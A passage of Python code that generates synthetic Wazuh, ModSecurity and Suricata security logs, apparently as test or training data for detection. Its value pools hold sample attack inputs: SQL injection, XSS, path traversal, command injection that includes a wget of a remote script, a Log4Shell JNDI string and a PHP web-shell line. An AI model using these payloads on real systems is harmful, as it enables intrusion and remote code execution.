                               "command": "{command}"}, prog="sudo", comp=C_AUTH_FAIL, mitre=M_SUDO),
        wz(130, "31101", 5, "Web server 400 error code.", ["web", "accesslog", "attack"], alog,
           location="{web_log}", decoder=web, data=d_web, comp=C_WEB400),
        wz(9, "31103", 7, "SQL injection attempt.", ["web", "accesslog", "attack", "sql_injection"], alog,
           location="{web_log}", decoder=web, data=d_web, comp=C_WEB, mitre=M_SQLI),
        wz(11, "31104", 6, "Common web attack.", ["web", "accesslog", "attack"], alog,
           location="{web_log}", decoder=web, data=d_web, comp=C_WEB,
           mitre={"id": ["T1055", "T1083", "T1190"], "tactic": ["Defense Evasion", "Privilege Escalation",
                                                                 "Discovery", "Initial Access"],
                  "technique": ["Process Injection", "File and Directory Discovery", "Exploit Public-Facing Application"]}),
        wz(6, "31151", 10, "Multiple web server 400 error codes from same source ip.",
           ["web", "accesslog", "web_scan", "recon"], alog, location="{web_log}", decoder=web, data=d_web,
           comp=C_WEB400, mitre={"id": ["T1595.002"], "tactic": ["Reconnaissance"], "technique": ["Vulnerability Scanning"]},
           frequency=True),
        wz(2, "31106", 12, "A web attack returned code 200 (success).", ["web", "accesslog", "attack"], alog,
           location="{web_log}", decoder=web, data=d_web, comp=C_WEB, mitre=M_SQLI),
        wz(26, "550", 7, "Integrity checksum changed.", ["ossec", "syscheck", "syscheck_entry_modified",
                                                          "syscheck_file"],
           "File '{fim_path}' modified\nMode: {fim_mode}\nChanged attributes: size,mtime,md5,sha1,sha256\n"
           "Size changed from '{size_before}' to '{size_after}'\nOld modification time was: '{mtime_b}', now it is "
           "'{mtime_a}'\nOld md5sum was: '{md5_b}'\nNew md5sum is : '{md5_a}'\nOld sha1sum was: '{sha1_b}'\n"
           "New sha1sum is : '{sha1_a}'\nOld sha256sum was: '{sha256_b}'\nNew sha256sum is : '{sha256_a}'\n",
           location="syscheck", decoder={"name": "syscheck_integrity_changed"}, comp=C_FIM, mitre=M_FIM,
           extra=syscheck("modified")),
        wz(14, "554", 5, "File added to the system.", ["ossec", "syscheck", "syscheck_entry_added", "syscheck_file"],
           "File '{fim_path}' added\nMode: {fim_mode}\n", location="syscheck",
           decoder={"name": "syscheck_new_entry"}, comp=C_FIM, extra=syscheck("added")),
        wz(6, "553", 7, "File deleted.", ["ossec", "syscheck", "syscheck_entry_deleted", "syscheck_file"],
           "File '{fim_path}' deleted\nMode: {fim_mode}\n", location="syscheck",
           decoder={"name": "syscheck_deleted"}, comp=C_FIM,
           mitre={"id": ["T1070.004", "T1485"], "tactic": ["Defense Evasion", "Impact"],
                  "technique": ["File Deletion", "Data Destruction"]}, extra=syscheck("deleted")),
        wz(3, "510", 7, "Host-based anomaly detection event (rootcheck).", ["ossec", "rootcheck"],
           "Trojaned version of file '{trojan}' detected. Signature used: '{sig}' (Generic).",
           location="rootcheck", decoder={"name": "rootcheck"},
           data={"title": "Trojaned version of file detected.", "file": "{trojan}"},
           comp={"pci_dss": ["10.6.1"], "gdpr": ["IV_35.7.d"]}),
        wz(1, "502", 3, "Wazuh server started.", ["ossec"], "ossec: Manager started.", location="wazuh-monitord",
           decoder={"name": "ossec"}, manager=True, comp=C_AGENT),
        wz(4, "503", 3, "Wazuh agent started.", ["ossec"], "ossec: Agent started: '{agent_ref}'.",
           location="wazuh-agent", decoder={"name": "ossec"}, comp=C_AGENT),
        wz(5, "504", 3, "Wazuh agent disconnected.", ["ossec"], "ossec: Agent disconnected: '{agent_ref}'.",
           location="wazuh-monitord", decoder={"name": "ossec"}, manager=True, comp=C_AGENT,
           mitre={"id": ["T1562.001"], "tactic": ["Defense Evasion"], "technique": ["Disable or Modify Tools"]}),
        wz(5, "2902", 7, "New dpkg (Debian Package) installed.", ["syslog", "dpkg", "config_changed"],
           "{dpkg_date} {dpkg_time} status installed {pkg_arch} {pkg_ver}", location="/var/log/dpkg.log",
           decoder={"name": "dpkg-decoder"}, data={"arch": "{arch}", "package": "{pkg}", "version": "{pkg_ver}"},
           comp=C_PKG),
        wz(2, "5902", 8, "New user added to the system.", ["syslog", "adduser"],
           sl + "useradd[{pid}]: new user: name={new_user}, UID={new_uid}, GID={new_uid}, home={home}, "
           "shell={shell}, from={from_tty}",
           decoder={"parent": "useradd", "name": "useradd"}, data={"dstuser": "{new_user}", "uid": "{new_uid}",
                                                                   "gid": "{new_uid}", "home": "{home}", "shell": "{shell}"},
           prog="useradd", comp={"pci_dss": ["8.1.2", "10.2.5"], "gpg13": ["4.13"], "gdpr": ["IV_35.7.d", "IV_32.2"],
                                 "hipaa": ["164.312.b"], "nist_800_53": ["IA.4", "AC.2", "AU.14", "AC.7"],
                                 "tsc": ["CC6.8", "CC7.2", "CC7.3"]},
           mitre={"id": ["T1136"], "tactic": ["Persistence"], "technique": ["Create Account"]}),
        wz(1.5, "5108", 12, "System running out of memory. Availability of the system is in risk.",
           ["syslog", "linuxkernel", "service_availability"],
           sl + "kernel: [{uptime}] Out of memory: Killed process {oom_pid} ({oom_proc}) total-vm:{vm}, "
           "anon-rss:{rss}, file-rss:{frss}, shmem-rss:{srss}, UID:{oom_uid} pgtables:{pgt} oom_score_adj:{adj}",
           decoder={"name": "kernel"}, prog="kernel", comp={"pci_dss": ["10.6.1"], "gpg13": ["4.12"],
                                                            "gdpr": ["IV_35.7.d"], "hipaa": ["164.312.b"],
                                                            "nist_800_53": ["AU.6"], "tsc": ["CC7.2", "CC7.3"]}),
        wz(18, "1002", 2, "Unknown problem somewhere in the system.", ["syslog", "errors"],
           sl + "{err_prog}[{pid}]: {err_msg}", decoder=None, prog="{err_prog}", comp={"gpg13": ["4.3"]}),
    ]
    return specs


def make_ossec(rng: random.Random) -> list[dict]:
    specs = ossec_specs()
    clock = Clock(rng, 2.5)
    agents = [("001", "web01", "10.0.1.11"), ("002", "web02", "10.0.1.12"), ("003", "db01", "10.0.2.21"),
              ("004", "bastion", "10.0.0.5"), ("005", "mail01", "10.0.3.7"), ("006", "ci-runner", "10.0.4.30"),
              ("007", "vpn-gw", "10.0.0.2"), ("008", "backup01", "10.0.2.40")]
    ag = Z(rng, agents, 1.0)
    manager = rng.choice(["wazuh-manager", "wazuh-master-0", "siem01"])
    auth_log = {a[1]: rng.choice(["/var/log/auth.log", "/var/log/auth.log", "/var/log/secure"]) for a in agents}
    users = Z(rng, ["root", "ubuntu", "deploy", "admin", "alice", "bob", "git", "test", "oracle", "postgres",
                    "user", "ftpuser", "pi", "support", "guest"], 1.1)
    attackers = Z(rng, ip_pool(rng, 40), 1.2)
    goods = Z(rng, ip_pool(rng, 6, "10.8"), 1.0)
    urls = Z(rng, ["/wp-login.php", "/.env", "/admin/config.php", "/phpmyadmin/index.php", "/favicon.ico",
                   "/api/v1/users?id=1%27%20OR%20%271%27=%271", "/index.php?page=../../../../etc/passwd",
                   "/cgi-bin/luci/;stok=/locale", "/robots.txt", "/.git/config",
                   "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"],
              1.0)
    uas = Z(rng, ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
                  "Mozilla/5.0 zgrab/0.x", "python-requests/2.31.0", "curl/8.4.0", "sqlmap/1.7.2#stable (https://sqlmap.org)",
                  "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"], 1.2)
    cmds = Z(rng, ["/usr/bin/systemctl restart nginx", "/usr/bin/apt-get update", "/bin/bash", "/usr/bin/tail -f /var/log/syslog",
                   "/usr/bin/docker ps", "/usr/bin/vim /etc/hosts", "/usr/sbin/iptables -L -n"], 1.2)
    fims = Z(rng, ["/etc/passwd", "/etc/shadow", "/etc/group", "/etc/hosts", "/etc/ssh/sshd_config",
                   "/usr/bin/ls", "/etc/sudoers.d/90-cloud-init-users", "/root/.ssh/authorized_keys", "/etc/crontab"], 1.1)
    pkgs = Z(rng, [("curl", "amd64", "7.88.1-10+deb12u5"), ("openssl", "amd64", "3.0.11-1~deb12u2"),
                   ("nmap", "amd64", "7.93+dfsg1-1"), ("linux-image-6.1.0-21-amd64", "amd64", "6.1.90-1"),
                   ("tzdata", "all", "2024a-0+deb12u1")], 1.1)
    errs = Z(rng, [("systemd", "Failed to start Daily apt upgrade and clean activities."),
                   ("kernel", "EXT4-fs error (device sda1): ext4_find_entry:1455: inode #2: comm ls: reading directory lblock 0"),
                   ("nginx", "connect() failed (111: Connection refused) while connecting to upstream"),
                   ("postfix/smtp", "connect to mx.example.org[203.0.113.25]:25: Connection timed out"),
                   ("CRON", "error (grandchild #5623 failed with exit status 1)")], 1.1)
    fired: dict = {}

    def row_vals(s: Spec) -> dict:
        t = clock.tick(rng)
        aid, aname, aip = ag(rng)
        fired[(s.template, aname)] = fired.get((s.template, aname), 0) + 1
        user = users(rng)
        bad = s.level != "INFO" or rng.random() < 0.1
        src = attackers(rng) if bad else goods(rng)
        pkg, arch, pver = pkgs(rng)
        ep, emsg = errs(rng)
        up = f"{rng.randint(1000, 9999999)}.{rng.randint(0, 999999):06d}"
        status = rng.choice([404, 404, 404, 403, 400, 401]) if s.level == "WARN" else rng.choice([200, 200, 403, 404])
        old = t - timedelta(days=rng.randint(1, 400), seconds=rng.randint(0, 86399))
        return {
            "ts": t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond // 1000:03d}+0000", "firedtimes": fired[(s.template, aname)],
            "frequency": rng.choice([8, 10, 12]), "agent_id": aid, "agent_name": aname, "agent_ip": aip,
            "mgr_agent_id": "000", "manager": manager, "alert_id": f"{int(t.timestamp())}.{rng.randint(10000, 99999999)}",
            "previous_output": "\n".join(f"{syslog_ts(t - timedelta(seconds=k))} {aname} sshd[{rng.randint(1000, 60000)}]: "
                                         f"Invalid user {users(rng)} from {src} port {eport(rng)}" for k in (3, 2, 1)),
            "sts": syslog_ts(t), "auth_log": auth_log[aname], "pid": rng.randint(400, 99999), "user": user,
            "srcip": src, "srcport": eport(rng), "keytype": rng.choice(["ED25519", "RSA", "ECDSA"]),
            "fp": "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/") for _ in range(43)),
            "uid": 0 if user == "root" else rng.randint(1000, 1010), "by_uid": 0, "n_more": rng.choice([2, 3, 5]),
            "tty": rng.choice(["pts/0", "pts/1", "pts/3", "unknown"]), "pwd": rng.choice(["/root", f"/home/{user}", "/srv/app", "/"]),
            "command": cmds(rng), "web_log": rng.choice(["/var/log/nginx/access.log", "/var/log/apache2/access.log"]),
            "clf": t.strftime("%d/") + MON[t.month - 1] + t.strftime("/%Y:%H:%M:%S +0000"), "url": urls(rng),
            "http_status": status, "bytes": rng.randint(150, 60000), "referer": "-", "ua": uas(rng),
            "fim_path": fims(rng), "fim_mode": rng.choice(["realtime", "scheduled", "whodata"]),
            "size_before": str(rng.randint(100, 5000)), "size_after": str(rng.randint(100, 5000)),
            "perm": rng.choice(["rw-r--r--", "rw-r-----", "rwxr-xr-x", "rw-------"]), "fuid": "0", "fgid": "0",
            "funame": "root", "fgname": rng.choice(["root", "shadow"]), "md5_b": hexs(rng, 32), "md5_a": hexs(rng, 32),
            "sha1_b": hexs(rng, 40), "sha1_a": hexs(rng, 40), "sha256_b": hexs(rng, 64), "sha256_a": hexs(rng, 64),
            "mtime_b": old.strftime("%a %b %d %H:%M:%S %Y"), "mtime_a": t.strftime("%a %b %d %H:%M:%S %Y"), "inode": rng.randint(10000, 9999999),
            "trojan": rng.choice(["/usr/bin/diff", "/bin/passwd", "/usr/bin/w"]),
            "sig": rng.choice(["bash|^/bin/sh|file\\.h|proc\\.h|/dev/[^n]|^/bin/.*sh", "bash|file\\.h|proc\\.h"]),
            "agent_ref": f"{aid}-{aname}" if rng.random() < 0.5 else f"{aname}->any",
            "dpkg_date": t.strftime("%Y-%m-%d"), "dpkg_time": t.strftime("%H:%M:%S"), "pkg_arch": f"{pkg}:{arch}",
            "pkg": pkg, "arch": arch, "pkg_ver": pver, "new_user": rng.choice(["backup", "svc-monitor", "mysql", "hacker"]),
            "new_uid": rng.randint(1001, 1020), "home": rng.choice(["/home/backup", "/nonexistent", "/var/lib/mysql"]),
            "shell": rng.choice(["/bin/bash", "/usr/sbin/nologin"]), "from_tty": rng.choice(["/dev/pts/0", "none"]),
            "uptime": up,
            "oom_pid": rng.randint(300, 99999), "oom_proc": rng.choice(["java", "postgres", "node", "php-fpm8.2"]),
            "vm": f"{rng.randint(10**6, 10**7)}kB", "rss": f"{rng.randint(10**5, 4 * 10**6)}kB", "frss": "0kB",
            "srss": "0kB", "oom_uid": rng.choice([0, 113, 33]), "pgt": f"{rng.randint(1000, 9000)}kB", "adj": 0,
            "err_prog": ep, "err_msg": emsg,
        }

    return generate(rng, specs, row_vals, jesc)


# =========================================================================== 5 modsecurity
MSC_SEV_LEVEL = {"0": "FATAL", "1": "FATAL", "2": "FATAL", "3": "ERROR", "4": "WARN", "5": "INFO", "6": "INFO",
                 "7": "DEBUG"}
_BASE_TAGS = ["application-multi", "language-multi", "platform-multi"]
# rule id -> (message, file, severity, match format, data format, tags)
CRS = {"913100": ("Found User-Agent associated with security scanner", "REQUEST-913-SCANNER-DETECTION.conf", "2",
               "Matched \"Operator `PmFromFile' with parameter `scanners-user-agents.data' against variable "
               "`REQUEST_HEADERS:User-Agent' (Value: `{ua}' )",
               "Matched Data: {scanner} found within REQUEST_HEADERS:User-Agent: {ua_l}",
               _BASE_TAGS + ["attack-reputation-scanner", "paranoia-level/1", "OWASP_CRS", "capec/1000/118/224/541/310", "PCI/6.5.10"]),
    "920350": ("Host header is a numeric IP address", "REQUEST-920-PROTOCOL-ENFORCEMENT.conf", "4",
               "Matched \"Operator `Rx' with parameter `^[\\d.:]+$' against variable `REQUEST_HEADERS:Host' "
               "(Value: `{host_hdr}' )", "{host_hdr}",
               _BASE_TAGS + ["attack-protocol", "paranoia-level/1", "OWASP_CRS", "capec/1000/210/272", "PCI/6.5.10"]),
    "920320": ("Missing User Agent Header", "REQUEST-920-PROTOCOL-ENFORCEMENT.conf", "5",
               "Matched \"Operator `Eq' with parameter `0' against variable `&REQUEST_HEADERS:User-Agent' (Value: `0' )",
               "", _BASE_TAGS + ["attack-protocol", "paranoia-level/2", "OWASP_CRS", "capec/1000/210/272", "PCI/6.5.10"]),
    "920280": ("Request Missing a Host Header", "REQUEST-920-PROTOCOL-ENFORCEMENT.conf", "4",
               "Matched \"Operator `Eq' with parameter `0' against variable `&REQUEST_HEADERS:Host' (Value: `0' )",
               "", _BASE_TAGS + ["attack-protocol", "paranoia-level/1", "OWASP_CRS", "capec/1000/210/272", "PCI/6.5.10"]),
    "920420": ("Request content type is not allowed by policy", "REQUEST-920-PROTOCOL-ENFORCEMENT.conf", "2",
               "Matched \"Operator `Within' with parameter `|application/x-www-form-urlencoded| |multipart/form-data| "
               "|multipart/related| |text/xml| |application/xml| |application/soap+xml| |application/json| "
               "|application/cloudevents+json| |application/cloudevents-batch+json|' against variable `TX:content_type' "
               "(Value: `{ctype_l}' )", "{ctype_l}",
               _BASE_TAGS + ["attack-protocol", "paranoia-level/1", "OWASP_CRS", "capec/1000/255/153", "PCI/12.1"]),
    "911100": ("Method is not allowed by policy", "REQUEST-911-METHOD-ENFORCEMENT.conf", "2",
               "Matched \"Operator `Within' with parameter `GET HEAD POST OPTIONS' against variable `REQUEST_METHOD' "
               "(Value: `{method_v}' )", "{method_v}",
               _BASE_TAGS + ["attack-generic", "paranoia-level/1", "OWASP_CRS", "capec/1000/210/272/220/274", "PCI/12.1"]),
    "930100": ("Path Traversal Attack (/../)", "REQUEST-930-APPLICATION-ATTACK-LFI.conf", "2",
               "Matched \"Operator `Rx' with parameter `(?i)(?:\\x5c|(?:%(?:c(?:0%(?:[2aq]f|5c|9v)|1%(?:[19p]c|8s|af))|2(?:5"
               "(?:c(?:0%25af|1%259c)|2f|5c)|%46|f)|(?:(?:f(?:8%8)?0%8|e)0%80%a|bg%q)f|%3(?:2(?:%(?:%6|4)6|F)|5%%63)|u(?:221"
               "[56]|002f|EFC8|F025)|1u|5c)|0x(?:2f|5c)|\\/))(?:%(?:(?:f(?:(?:c%80|8)%8)?0%8 (28 characters omitted)' "
               "against variable `REQUEST_URI_RAW' (Value: `{uri}' )",
               "Matched Data: {trav} found within REQUEST_URI_RAW: {uri}",
               _BASE_TAGS + ["attack-lfi", "paranoia-level/1", "OWASP_CRS", "capec/1000/255/153/126"]),
    "930120": ("OS File Access Attempt", "REQUEST-930-APPLICATION-ATTACK-LFI.conf", "2",
               "Matched \"Operator `PmFromFile' with parameter `lfi-os-files.data' against variable `ARGS:{arg}' "
               "(Value: `{argval}' )", "Matched Data: {lfi} found within ARGS:{arg}: {argval}",
               _BASE_TAGS + ["attack-lfi", "paranoia-level/1", "OWASP_CRS", "capec/1000/255/153/126", "PCI/6.5.4"]),
    "932160": ("Remote Command Execution: Unix Shell Code Found", "REQUEST-932-APPLICATION-ATTACK-RCE.conf", "2",
               "Matched \"Operator `PmFromFile' with parameter `unix-shell.data' against variable `ARGS:{arg}' "
               "(Value: `{argval}' )", "Matched Data: {shell_hit} found within ARGS:{arg}: {argval}",
               _BASE_TAGS + ["attack-rce", "paranoia-level/1", "OWASP_CRS", "capec/1000/152/248/88", "PCI/6.5.2"]),
    "933100": ("PHP Injection Attack: PHP Open Tag Found", "REQUEST-933-APPLICATION-ATTACK-PHP.conf", "2",
               "Matched \"Operator `Rx' with parameter `(?:<\\?(?:[^x]|x[^m]|xm[^l]|xml[^\\s]|xml$|$)|<\\?php|\\[(?:/|"
               "\\x5c)?php\\])' against variable `ARGS:{arg}' (Value: `{argval}' )",
               "Matched Data: <?php found within ARGS:{arg}: {argval}",
               ["application-multi", "language-php", "platform-multi", "attack-injection-php", "paranoia-level/1",
                "OWASP_CRS", "capec/1000/152/242"]),
    "941100": ("XSS Attack Detected via libinjection", "REQUEST-941-APPLICATION-ATTACK-XSS.conf", "2",
               "detected XSS using libinjection.", "Matched Data: XSS data found within ARGS:{arg}: {argval}",
               ["application-multi", "language-multi", "platform-multi", "attack-xss", "paranoia-level/1",
                "OWASP_CRS", "capec/1000/152/242"]),
    "942100": ("SQL Injection Attack Detected via libinjection", "REQUEST-942-APPLICATION-ATTACK-SQLI.conf", "2",
               "detected SQLi using libinjection.", "Matched Data: {sqli_fp} found within ARGS:{arg}: {argval}",
               ["application-multi", "language-multi", "platform-multi", "attack-sqli", "paranoia-level/1",
                "OWASP_CRS", "capec/1000/152/248/66", "PCI/6.5.2"]),
    "949110": ("Inbound Anomaly Score Exceeded (Total Score: {score})", "REQUEST-949-BLOCKING-EVALUATION.conf", "2",
               "Matched \"Operator `Ge' with parameter `{threshold}' against variable `TX:ANOMALY_SCORE' (Value: `{score}' )",
               "", ["application-multi", "language-multi", "platform-multi", "attack-generic"]),
}
MSC_HDRS = {"browser": ["Host", "Connection", "User-Agent", "Accept", "Accept-Encoding", "Accept-Language", "Cookie"],
    "scanner": ["Host", "User-Agent", "Accept", "Connection"], "curl": ["Host", "User-Agent", "Accept"],
    "noua": ["Host", "Accept"], "nohost": ["User-Agent", "Accept"],
    "api": ["Host", "User-Agent", "Content-Type", "Content-Length", "Accept", "Authorization"],
}
MSC_RESP = {"block": ["Server", "Date", "Content-Length", "Content-Type", "Connection"],
    "pass": ["Server", "Date", "Content-Type", "Transfer-Encoding", "Connection", "Vary", "X-Frame-Options"],
}


def _ph_name(h: str) -> str:
    return "h_" + h.lower().replace("-", "_")


def modsec(weight, method, hdrs, rules, resp="block", engine="Enabled"):
    msgs = []
    for rid in rules:
        msg, fname, sev, match, data, tags = CRS[rid]
        tag = rid
        msgs.append({"message": msg, "details": {
            "match": match, "reference": "{ref_" + tag + "}", "ruleId": rid, "file": "{crs_dir}" + fname,
            "lineNumber": "{ln_" + tag + "}", "data": data if data else "", "severity": sev, "ver": "{crs_ver}",
            "rev": "", "tags": tags, "maturity": "{maturity}", "accuracy": "{accuracy}"}})
    obj = {"transaction": {
        "client_ip": "{client_ip}", "time_stamp": "{ts}", "server_id": "{server_id}", "client_port": "#client_port#",
        "host_ip": "{host_ip}", "host_port": "#host_port#", "unique_id": "{unique_id}",
        "request": {"method": method, "http_version": "#http_version#", "uri": "{uri}",
                    "headers": {h: "{" + _ph_name(h) + "}" for h in MSC_HDRS[hdrs]}},
        "response": {"http_code": "#http_code#", "headers": {h: "{r_" + h.lower().replace("-", "_") + "}"
                                                             for h in MSC_RESP[resp]}},
        "producer": {"modsecurity": "{msc_ver}", "connector": "{connector}", "secrules_engine": engine,
                     "components": ["{crs_comp}"]}, "messages": msgs}}
    sevs = [CRS[r][2] for r in rules]
    level = MSC_SEV_LEVEL[min(sevs)] if sevs else "-"
    return Spec(weight, level, jfmt(obj), {"rules": rules, "hdrs": hdrs, "resp": resp, "method": method})


def modsec_specs() -> list[Spec]:
    return [
        modsec(190, "GET", "curl", ["920350"], resp="pass"),
        modsec(110, "GET", "scanner", ["913100", "949110"]),
        modsec(60, "GET", "scanner", ["913100", "920350", "949110"]),
        modsec(80, "GET", "browser", ["942100", "949110"]),
        modsec(45, "GET", "browser", ["941100", "949110"]),
        modsec(40, "GET", "scanner", ["930100", "930120", "949110"]),
        modsec(14, "GET", "scanner", ["932160", "930120", "949110"]),
        modsec(30, "POST", "api", ["942100", "949110"]),
        modsec(2, "POST", "api", ["933100", "949110"]),
        modsec(4, "POST", "api", ["941100", "942100", "949110"]),
        modsec(10, "POST", "api", ["920420", "949110"]),
        modsec(40, "GET", "noua", ["920320"], resp="pass"),
        modsec(22, "GET", "noua", ["920320", "920350"], resp="pass"),
        modsec(8, "GET", "nohost", ["920280"], resp="pass"),
        modsec(6, "PROPFIND", "curl", ["911100", "949110"]),
        modsec(0.6, "TRACE", "curl", ["911100", "949110"]),
        modsec(12, "GET", "browser", ["942100", "949110"], resp="pass", engine="DetectionOnly"),
        modsec(6, "GET", "browser", ["941100", "949110"], resp="pass", engine="DetectionOnly"),
        modsec(28, "GET", "browser", [], resp="block"),
        modsec(9, "POST", "api", [], resp="block"),
        modsec(8, "GET", "curl", [], resp="block"),
    ]


def make_modsec(rng: random.Random) -> list[dict]:
    specs = modsec_specs()
    clock = Clock(rng, 5.0)
    servers = [("10.0.5.10", "www.example.com"), ("10.0.5.11", "shop.example.com"), ("10.0.5.12", "api.example.com")]
    srv = Z(rng, servers, 1.0)
    sid = {s[0]: hexs(rng, 40) for s in servers}
    clients = Z(rng, ip_pool(rng, 45), 1.1)
    crs_ver = rng.choice(["3.3.5", "3.3.4"])
    crs_dir = rng.choice(["/etc/nginx/modsec/coreruleset-" + crs_ver + "/rules/", "/usr/share/modsecurity-crs/rules/"])
    msc_ver = rng.choice(["3.0.12", "3.0.11"])
    conn_ver = rng.choice(["1.0.3", "1.0.2"])
    lines = {"913100": 34, "920350": 750, "920320": 1266, "920280": 660, "920170": 180, "920420": 940,
             "911100": 28, "930100": 29, "930120": 99, "932160": 504, "932100": 117, "933100": 36, "941100": 55,
             "942100": 46, "944150": 305, "949110": 81}
    scanners = Z(rng, [("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000562)", "nikto"),
                       ("sqlmap/1.7.2#stable (https://sqlmap.org)", "sqlmap"),
                       ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "nmap scripting engine"),
                       ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36 WPScan v3.8.25", "wpscan"),
                       ("Fuzz Faster U Fool v2.1.0-dev", "fuzz faster u fool"),
                       ("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "masscan")], 1.1)
    browsers = Z(rng, ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
                       "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
                       "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
                       "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148"], 1.2)
    tools = Z(rng, ["curl/7.88.1", "curl/8.4.0", "python-requests/2.31.0", "Go-http-client/1.1", "Wget/1.21.3"], 1.2)
    sqli = Z(rng, [("id", "1' or '1'='1", "s&sos"), ("id", "1 UNION SELECT username,password FROM users--", "1UE"),
                   ("q", "') or 1=1--", "sos1c"), ("user", "admin'--", "sc"), ("cat", "2 AND SLEEP(5)", "1&f(")], 1.1)
    xss = Z(rng, [("q", "<script>alert(1)</script>"), ("search", "\"><img src=x onerror=alert(document.cookie)>"),
                  ("name", "<svg/onload=confirm(1)>")], 1.1)
    lfi = Z(rng, [("file", "../../../../etc/passwd", "etc/passwd"), ("page", "....//....//etc/shadow", "etc/shadow"),
                  ("path", "/proc/self/environ", "proc/self/environ")], 1.1)
    rce = Z(rng, [("cmd", ";cat /etc/passwd", ";cat", "cat"), ("ip", "127.0.0.1;id", ";id", "id"),
                  ("host", "`wget http://45.61.137.9/x.sh`", "`wget", "wget")], 1.1)
    paths = Z(rng, ["/", "/index.php", "/wp-login.php", "/search", "/api/v1/products", "/login", "/cart/add",
                    "/api/v2/orders", "/admin/", "/.env", "/static/app.js"], 1.2)

    def row_vals(s: Spec) -> dict:
        t = clock.tick(rng)
        hip, hname = srv(rng)
        rules = s.meta["rules"]
        hdrs = s.meta["hdrs"]
        sua, sname = scanners(rng)
        ua = {"browser": browsers, "curl": tools}.get(hdrs, None)
        ua = ua(rng) if ua else sua
        a_s, v_s, fp = sqli(rng)
        a_x, v_x = xss(rng)
        a_l, v_l, lfi_hit = lfi(rng)
        a_r, v_r, r_hit, sh_hit = rce(rng)
        arg, argval = a_s, v_s
        for r, av in (("941100", (a_x, v_x)), ("930120", (a_l, v_l)), ("932160", (a_r, v_r)),
                      ("932100", (a_r, v_r)), ("933100", ("data", "<?php system($_GET['c']); ?>"))):
            if r in rules and "942100" not in rules:
                arg, argval = av
        base = paths(rng)
        if "930100" in rules:
            uri = "/" + rng.choice(["..%2f..%2f..%2fetc%2fpasswd", "static/../../../../etc/passwd", "cgi-bin/.%2e/.%2e/.%2e/etc/passwd"])
        elif any(r in rules for r in ("942100", "941100", "930120", "932160", "932100")) and s.meta["method"] == "GET":
            uri = f"{base}?{arg}={quote(argval, safe='')}"
        else:
            uri = base
        host_hdr = hip if "920350" in rules else hname
        n_crit = sum(1 for r in rules if CRS[r][2] == "2" and r != "949110")
        score = 5 * n_crit + sum(3 for r in rules if CRS[r][2] == "4") + sum(2 for r in rules if CRS[r][2] == "5")
        blocked = "949110" in rules and s.meta["resp"] == "block"
        code = 403 if blocked else rng.choice([500, 502, 503, 400]) if not rules else rng.choice([200, 200, 404, 301])
        jv = "${jndi:ldap://" + rng.choice(["45.61.137.9:1389/a", "x.interact.sh/abc", "185.220.101.4/Exploit"]) + "}"
        v = {"client_ip": clients(rng), "ts": ctime_str(t), "server_id": sid[hip], "client_port": eport(rng),
            "host_ip": hip, "host_port": rng.choice([443, 443, 80]),
            "unique_id": f"{int(t.timestamp())}{rng.randint(10, 99)}.{rng.randint(100000, 999999)}",
            "http_version": rng.choice(["1.1", "1.1", "2.0"]), "uri": uri, "http_code": code,
            "msc_ver": f"ModSecurity v{msc_ver} (Linux)", "connector": f"ModSecurity-nginx v{conn_ver}",
            "crs_comp": f'OWASP_CRS/{crs_ver}"', "crs_dir": crs_dir, "crs_ver": f"OWASP_CRS/{crs_ver}",
            "maturity": "0", "accuracy": "0", "h_host": host_hdr, "h_connection": rng.choice(["keep-alive", "close"]),
            "h_user_agent": jv if "944150" in rules else ua,
            "h_accept": rng.choice(["*/*", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"]),
            "h_accept_encoding": "gzip, deflate, br", "h_accept_language": rng.choice(["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8"]),
            "h_cookie": f"PHPSESSID={hexs(rng, 26)}; _ga=GA1.2.{rng.randint(10**8, 10**9)}.{int(t.timestamp()) - 86400}",
            "h_content_type": "text/x-php" if "920420" in rules else rng.choice(["application/json", "application/x-www-form-urlencoded"]),
            "h_content_length": str(rng.randint(20, 900)), "h_authorization": "Bearer " + hexs(rng, 32),
            "r_server": "nginx", "r_date": t.strftime("%a, %d ") + MON[t.month - 1] + t.strftime(" %Y %H:%M:%S GMT"),
            "r_content_length": str(rng.choice([146, 153, 157, 559])), "r_content_type": "text/html",
            "r_connection": "keep-alive", "r_transfer_encoding": "chunked", "r_vary": "Accept-Encoding",
            "r_x_frame_options": "SAMEORIGIN",
            "ua": ua, "scanner": sname, "ua_l": ua.lower(), "host_hdr": host_hdr,
            "ctype_l": "text/x-php", "method_v": s.meta["method"], "trav": "/../", "arg": arg, "argval": argval,
            "lfi": lfi_hit, "shell_hit": sh_hit, "sqli_fp": fp,
            "score": score, "threshold": 5,
        }
        if "941100" in rules and "942100" in rules:
            v["arg"], v["argval"] = a_s, v_s
        for r in rules:
            v["ref_" + r] = f"o{rng.randint(0, 30)},{rng.randint(1, 40)}v{rng.randint(4, 300)},{rng.randint(1, 60)}"
            v["ln_" + r] = lines[r]
        return v

    return generate(rng, specs, row_vals, jesc)


# =========================================================================== 6 suricata fast.log
SURI_LEVEL = {1: "ERROR", 2: "WARN", 3: "INFO", 4: "INFO"}
# (weight, action, gid:sid:rev, signature, classification, priority, proto, kind)
SURI_SIGS = [
